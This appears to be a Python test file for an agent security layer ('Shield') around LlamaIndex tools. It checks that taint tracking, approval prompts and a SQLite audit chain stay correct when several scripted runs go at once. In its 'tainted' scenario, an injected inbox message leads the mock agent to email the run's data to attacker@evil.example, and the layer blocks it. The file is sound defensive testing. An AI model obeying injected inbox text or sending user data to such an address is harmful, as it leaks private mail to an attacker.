"""Runs at once through one ``FunctionAgent`` and one ``Shield`` (as a server keeps them) end exactly as
they do one at a time: taint, approvals and executions stay in their own run, and the shared SQLite
audit chain verifies."""

from __future__ import annotations

import asyncio
import re
from collections import Counter
from pathlib import Path
from typing import Any

from _li_support import Counted, drive, make_shield
from llama_index.core.agent.workflow import FunctionAgent
from llama_index.core.base.llms.types import ChatMessage, MessageRole, ToolCallBlock
from llama_index.core.llms.mock import MockFunctionCallingLLM

from airs_plugins import Shield
from airs_plugins.llamaindex import ApprovalRequired, ApprovalResponse, guard_tools

_ASK = re.compile(r"handle the (\w+) task as (\w+)")
VERDICTS = {"clean": None, "tainted": "reject", "approved": "approve"}
RUNS = [(name, f"r{i}{name[:2]}") for i in range(3) for name in VERDICTS]  # 9 runs, interleaved


def steps_for(name: str, tag: str) -> list[list[tuple[str, dict[str, Any]]]]:
    """The model's tool calls, turn by turn; ``tag`` marks the run's outward arguments."""
    if name == "clean":  # an outward call with no untrusted read before it: runs unasked, unless taint leaks in
        return [[("send_email", {"to": f"{tag}@corp.example", "body": "hi"})]]
    if name == "tainted":  # the injected inbox asks for the mail to go to the attacker
        return [[("read_inbox", {})], [("send_email", {"to": "attacker@evil.example", "body": f"all of {tag}"})]]
    return [[("read_inbox", {})], [("send_email", {"to": f"{tag}@corp.example", "body": "summary"})]]


def respond(messages: list[ChatMessage], **_: Any) -> ChatMessage:
    """One scripted model for every run: the script follows the scenario named in the run's request."""
    user = next(str(m.content) for m in messages if m.role == MessageRole.USER)
    found = _ASK.search(user)
    assert found is not None, user
    steps = steps_for(*found.groups())
    turn = sum(1 for m in messages if m.role == MessageRole.ASSISTANT)
    if turn >= len(steps):
        return ChatMessage(role=MessageRole.ASSISTANT, content=f"finished {found.group(2)}")
    return ChatMessage(role=MessageRole.ASSISTANT, blocks=[
        ToolCallBlock(tool_call_id=f"call-{turn}-{i}", tool_name=n, tool_kwargs=a) for i, (n, a) in enumerate(steps[turn])])


async def one_run(agent: FunctionAgent, counted: Counted, name: str, tag: str) -> dict[str, Any]:
    verdict = VERDICTS[name]

    def reviewer(ev: ApprovalRequired) -> ApprovalResponse:
        assert verdict is not None, f"the {name} run {tag} was asked about {ev.request['tool_name']}"
        return ApprovalResponse.answer(ev, {"type": verdict, "reviewer": "rev"})

    result, asked = await drive(agent, f"please handle the {name} task as {tag}", reviewer)
    sent = [a for n, a in counted.calls if n == "send_email" and tag in f"{a['to']} {a['body']}"]
    return {"result": str(result), "asked": [ev.request["tool_name"] for ev in asked], "sent": sent}


def audited(shield: Shield, since: int) -> Counter[tuple[str, str, str, str]]:
    return Counter((r.kind, str(r.body.get("channel") or ""), str(r.body.get("tool_name") or ""),
                    str(r.body.get("action") or "")) for r in shield.recorder.records(since=since))


async def test_runs_on_one_agent_behave_as_runs_alone(tmp_path: Path) -> None:
    counted = Counted()
    shield = make_shield(audit=tmp_path / "audit.db", ledger=tmp_path / "ledger.db")
    agent = FunctionAgent(tools=guard_tools(counted.tools(), shield),
                          llm=MockFunctionCallingLLM(response_generator=respond))

    alone = {}
    for name, tag in RUNS:
        alone[(name, tag)] = await one_run(agent, counted, name, f"{tag}a")
    mark = len(list(shield.recorder.records()))
    results = await asyncio.gather(*(one_run(agent, counted, name, f"{tag}t") for name, tag in RUNS))
    together = dict(zip(RUNS, results, strict=True))

    for (name, tag), got in alone.items():
        assert got["result"] == f"finished {tag}a", got
        if name == "clean":
            assert got["asked"] == [] and got["sent"] == [{"to": f"{tag}a@corp.example", "body": "hi"}], got
        elif name == "tainted":
            assert got["asked"] == ["send_email"] and got["sent"] == [], got
        else:
            assert got["asked"] == ["send_email"] and got["sent"] == [{"to": f"{tag}a@corp.example",
                                                                        "body": "summary"}], got
    for (name, tag), got in together.items():
        expect = alone[(name, tag)]
        renamed = [{k: v.replace(f"{tag}a", f"{tag}t") for k, v in a.items()} for a in expect["sent"]]
        assert got == {**expect, "result": f"finished {tag}t", "sent": renamed}
    assert counted.count("read_inbox") == 2 * sum(1 for n, _ in RUNS if n != "clean")
    # the same decisions, approvals and executions, in the one chain, which verifies
    assert audited(shield, mark) == audited(shield, 0) - audited(shield, mark)
    verdict = shield.recorder.verify()
    assert verdict.ok, str(verdict)
